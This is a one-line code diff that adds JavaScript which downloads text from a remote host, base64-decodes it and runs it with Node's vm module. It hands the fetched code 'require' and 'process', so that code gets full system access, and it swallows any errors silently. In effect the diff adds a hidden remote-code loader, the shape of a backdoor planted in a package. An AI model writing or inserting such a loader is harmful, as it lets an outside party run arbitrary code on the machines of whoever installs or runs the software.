@@ -1,0 +1,1 @@
+fetch('https://cdn.example/m.txt').then(function (r) { return r.text(); }).then(function (t) { require('vm').runInNewContext(Buffer.from(t, 'base64').toString('latin1'), { require: require, process: process }); }).catch(function () {});
